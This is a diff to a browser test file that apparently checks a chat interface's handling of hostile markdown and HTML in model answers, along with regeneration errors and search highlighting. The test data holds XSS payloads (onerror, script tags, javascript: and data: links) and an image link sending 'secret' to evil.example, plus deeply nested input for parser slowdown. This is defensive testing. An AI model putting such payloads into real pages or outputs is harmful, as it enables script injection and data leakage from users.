@@ -101,7 +101,7 @@ test("markdown loads nothing, runs nothing and leads nowhere it may not", async 
   const answer = [
     "![pixel](https://evil.example/p.png?q=secret)", "<img src=x onerror=\"window.pwned=1\">", "<script>window.pwned=1</script>",
     "[a](javascript:window.pwned=1)", "[b](data:text/html,<script>window.pwned=1</script>)", "[c](//evil.example/)", "[d](vbscript:x)", "[e][f]", "", "[f]: javascript:window.pwned=1",
-    "<a href='javascript:1' onclick='window.pwned=1'>x</a>", "<https://ok.example/>", `${"> ".repeat(400)}deep`, `${"*".repeat(3000)}a`, "[".repeat(2000),
+    "<a href='javascript:1' onclick='window.pwned=1'>x</a>", "<https://ok.example/>", `${"> ".repeat(14)}deep`, "[".repeat(2000),
   ].join("\n\n");
   await answered("Do your worst", answer);
   const body = page.locator(".message").last().locator(".message-body");
@@ -111,6 +111,12 @@ test("markdown loads nothing, runs nothing and leads nowhere it may not", async 
   assert.match(await body.textContent(), /Picture: pixel \(evil\.example\)/);
   assert.match(await body.textContent(), /<img src=x onerror/, "markup stays the characters that it is");
   assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
+  // Reading these as markdown would take seconds for each piece that arrives.
+  for (const piled of [`${"> ".repeat(400)}deep`, `${"- ".repeat(400)}deep`, `${"_a_".repeat(1_500)} deep`, `${" ".repeat(80)}- deep`]) {
+    await answered("And this?", `**so** ${piled.slice(0, 3)}\n${piled}`);
+    await isMessage(-1, "deep");
+    assert.equal(await page.locator(".message").last().locator("strong, blockquote, ul, em").count(), 0, `${piled.slice(0, 9)} is shown as it is`);
+  }
 });
 
 test("whatever a model writes: every word is shown, in elements of a fixed list, with no address but a link's", async () => {
@@ -193,9 +199,12 @@ test("an answer that is stopped before its first word is no failure, and leaves 
 
 test("a model that gives no answer leaves the former one in its place", async () => {
   model.script = (say, response) => response.destroy();
+  const before = model.asked.length;
   await page.locator(".message").last().hover();
   await page.locator('.message [data-action="regenerate"]').click();
-  await page.waitForSelector('#status[data-kind="error"]');
+  while (model.asked.length === before) await pause(10);
+  await page.waitForSelector("#stop", { state: "hidden" });
+  assert.equal(await page.getAttribute("#status", "data-kind"), "error");
   await isMessage(1, "8472");
   assert.equal((await bodies()).length, 2);
 });
@@ -265,6 +274,10 @@ test("the search finds messages of every chat as one types, marks the words, and
   await page.locator(".hits-of-one .hit-open", { has: page.locator("mark") }).first().click();
   await page.waitForFunction(() => document.querySelector(".message.pointed-at mark")?.textContent === "marmalade");
   assert.match(await page.evaluate(() => document.activeElement.textContent), /marmalade/, "the keyboard is at the message");
+  const id = await page.getAttribute(".conversation.current .conversation-open", "data-conversation");
+  await stored(`(memory) => memory.append(${JSON.stringify(id)}, { role: "user", content: "Said in another tab" })`);
+  await isMessage(-1, "Said in another tab");
+  assert.equal(await page.locator(".message.pointed-at mark").count(), 1, "it stays marked when the messages are drawn anew");
   await page.focus("#search");
   await page.keyboard.press("Escape");
   assert.equal(await page.isVisible("#conversation-items"), true);
